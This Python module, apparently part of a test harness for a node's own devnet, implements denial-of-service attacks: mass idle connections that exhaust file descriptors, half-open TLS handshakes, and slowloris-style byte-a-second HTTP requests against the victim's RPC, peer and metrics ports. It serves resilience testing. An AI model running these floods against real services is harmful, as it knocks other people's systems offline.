"""Attacks that need no credential and hardly a byte: connections that say nothing, or stop in the middle."""

import resource
import ssl
from collections.abc import Awaitable, Callable
from typing import Final

import trio

from alatau.types.endpoint import parse_endpoint
from alatau_devnet.attack.scene import Scene

_CONNECTIONS: Final = 1_200
"""More than the 1,024 descriptors that a process gets where nobody raised its limit."""
_RETRY_S: Final = 0.2
_SLOW_HTTP: Final = 64
"""Connections that send their request a byte at a time; the port once served 16."""

Hold = Callable[[trio.SocketStream], Awaitable[None]]


class _Tally:
    """How the connections fared."""

    def __init__(self) -> None:
        self.opened = self.refused = self.ended = self.open = self.most = 0

    def __str__(self) -> str:
        return f"{self.opened} opened, {self.most} at once, {self.ended} ended by the node, {self.refused} refused"


async def idle_connections(scene: Scene, seconds: float) -> object:
    """Open connections to the client port and say nothing."""
    return await _hold(scene.victim.rpc, _CONNECTIONS, seconds, _silent)


async def idle_peers(scene: Scene, seconds: float) -> object:
    """The same at the peers' port."""
    return await _hold(scene.victim.p2p, _CONNECTIONS, seconds, _silent)


async def half_open_tls(scene: Scene, seconds: float) -> object:
    """Begin a handshake and stop after its first message."""
    return await _hold(scene.victim.rpc, _CONNECTIONS, seconds, _hello)


async def slow_http(scene: Scene, seconds: float) -> object:
    """Send a request to the metrics port, one byte a second."""
    return await _hold(scene.victim.metrics, _SLOW_HTTP, seconds, _trickle)


async def _hold(endpoint: str, count: int, seconds: float, hold: Hold) -> object:
    _raise_descriptor_limit(count)
    target, tally = parse_endpoint(endpoint), _Tally()

    async def one() -> None:
        while True:
            try:
                stream = await trio.open_tcp_stream(target.host, target.port)
            except OSError:
                tally.refused += 1
                await trio.sleep(_RETRY_S)
                continue
            tally.opened += 1
            tally.open += 1
            tally.most = max(tally.most, tally.open)
            try:
                async with stream:
                    await hold(stream)
            except* (trio.BrokenResourceError, trio.ClosedResourceError):
                pass  # in a group where a connection has a task of its own
            finally:
                tally.open -= 1
            tally.ended += 1
            await trio.sleep(_RETRY_S)

    with trio.move_on_after(seconds):
        async with trio.open_nursery() as nursery:
            for _ in range(count):
                nursery.start_soon(one)
                await trio.sleep(0.001)  # the listener's backlog is short
    return tally


async def _silent(stream: trio.SocketStream) -> None:
    while await stream.receive_some(4096):
        pass


async def _hello(stream: trio.SocketStream) -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname="node.alatau")
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        await stream.send_all(outgoing.read())
    await _silent(stream)


async def _trickle(stream: trio.SocketStream) -> None:
    async with trio.open_nursery() as nursery:
        nursery.start_soon(_silent_then_cancel, stream, nursery)
        for byte in b"GET /livez HTTP/1.1\r\nHost: node\r\nX-Slow: " + b"a" * 4_000:
            await stream.send_all(bytes((byte,)))
            await trio.sleep(1)


async def _silent_then_cancel(stream: trio.SocketStream, nursery: trio.Nursery) -> None:
    await _silent(stream)
    nursery.cancel_scope.cancel()


def _raise_descriptor_limit(count: int) -> None:
    """Let this process hold ``count`` connections, as far as the hard limit goes."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = count + 256 if hard == resource.RLIM_INFINITY else min(count + 256, hard)
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, hard))
